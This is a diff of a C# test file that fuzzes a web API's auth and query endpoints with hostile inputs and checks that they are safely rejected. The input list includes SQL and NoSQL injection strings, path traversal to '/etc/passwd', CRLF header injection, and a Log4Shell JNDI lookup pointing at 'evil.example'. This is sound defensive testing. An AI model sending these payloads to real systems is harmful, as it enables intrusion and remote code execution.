@@ -40,7 +40,8 @@ public sealed class HostileTextTests(SharedPair pair) : IClassFixture<SharedPair
         ";", "--", "/*", "*/", "0x1", "1e999", "-1", "NaN", "null", "undefined", "true", "{}", "[]", "{\"$gt\":\"\"}",
         "{\"$ne\":null}", "$where", "../../etc/passwd", "..\\..\\web.config", "/dev/null", "%00", "\u0000",
         "%0d%0aSet-Cookie:x=1", "\r\nX-Injected: 1", "%s%s%s%n", "{0}{1}", "${jndi:ldap://evil.example/a}",
-        "!!python/object", "\uD83D\uDE00", "ß", "İ", "ﬀ", "\uFFFF", "\uFFFE", "\u202E", "😀😀", "a\u0301", "sort=passwordHash",
+        "!!python/object", "\uD83D\uDE00", "ß", "İ", "ﬀ", "\uFFFF", "\uFFFE", "\u202E", "😀😀", "a\u0301",
+        "sort=passwordHash",
         "orderBy=Email desc", "id,(select 1)", "username asc; --",
     ];
 
@@ -78,7 +79,8 @@ public sealed class HostileTextTests(SharedPair pair) : IClassFixture<SharedPair
             }
 
             using var signUp = await pair.Server.Http.PostAsJsonAsync(
-                "/api/v1/auth/register", new { username = text, email = "someone@example.test", password = TestApp.Password });
+                "/api/v1/auth/register",
+                new { username = text, email = "someone@example.test", password = TestApp.Password });
             (await signUp.Refusal()).Should().Be((400, "validation_failed"), text);
             using var logIn = await pair.Server.Http.PostAsJsonAsync(
                 "/api/v1/auth/login", new { login = "alice", password = TestApp.Password, deviceName = text });
@@ -95,17 +97,20 @@ public sealed class HostileTextTests(SharedPair pair) : IClassFixture<SharedPair
     {
         var random = new Random(Seed);
         var payloads = Enumerable.Range(0, 200)
-            .Select(i => i < Injections.Length ? Injections[i] : $"{Pick()}{Pick()}{(i % 3 == 0 ? "al" : Pick())}").ToArray();
+            .Select(i => i < Injections.Length ? Injections[i] : $"{Pick()}{Pick()}{(i % 3 == 0 ? "al" : Pick())}")
+            .ToArray();
         var before = await pair.Server.State();
         foreach (var payload in payloads)
         {
             var text = Uri.EscapeDataString(payload);
             string[] places =
             [
-                $"/api/v1/profiles?q={text}", $"/api/v1/profiles?q=al&cursor={text}", $"/api/v1/profiles?q=al&sort={text}",
+                $"/api/v1/profiles?q={text}", $"/api/v1/profiles?q=al&cursor={text}",
+                $"/api/v1/profiles?q=al&sort={text}",
                 $"/api/v1/profiles/by-username/{text}", $"/api/v1/notifications?type={text}",
                 $"/api/v1/notifications?isRead={text}", $"/api/v1/conversations?cursor={text}",
-                $"/api/v1/presence?userIds={text}", $"/api/v1/sync?after={text}", $"/api/v1/conversations/{text}/messages",
+                $"/api/v1/presence?userIds={text}", $"/api/v1/sync?after={text}",
+                $"/api/v1/conversations/{text}/messages",
             ];
             foreach (var place in places)
             {
@@ -114,7 +119,8 @@ public sealed class HostileTextTests(SharedPair pair) : IClassFixture<SharedPair
                 ((int)response.StatusCode).Should().BeOneOf(
                     [200, 400, 404, 405], "seed {0}: {1} says {2}", Seed, place, said);
                 response.Headers.Contains("X-Injected").Should().BeFalse();
-                RefusalAssertions.MustSayNothingOfTheInside(said.Replace(payload, string.Empty, StringComparison.Ordinal));
+                RefusalAssertions.MustSayNothingOfTheInside(
+                    said.Replace(payload, string.Empty, StringComparison.Ordinal));
                 said.Should().NotContain("example.test", place);
                 if (place == places[0] && response.IsSuccessStatusCode)
                 {
@@ -145,7 +151,9 @@ public sealed class HostileTextTests(SharedPair pair) : IClassFixture<SharedPair
 
     private static async Task<JsonElement> MustBeData(HttpResponseMessage response)
     {
-        response.Content.Headers.ContentType!.MediaType.Should().BeOneOf("application/json", "application/problem+json");
+        response.Content.Headers.ContentType!.MediaType
+            .Should()
+            .BeOneOf("application/json", "application/problem+json");
         (response.Content.Headers.ContentType.CharSet ?? "utf-8").Should().Be("utf-8");
         response.Headers.GetValues("X-Content-Type-Options").Should().Equal("nosniff");
         ((int)response.StatusCode).Should().BeLessThan(500);
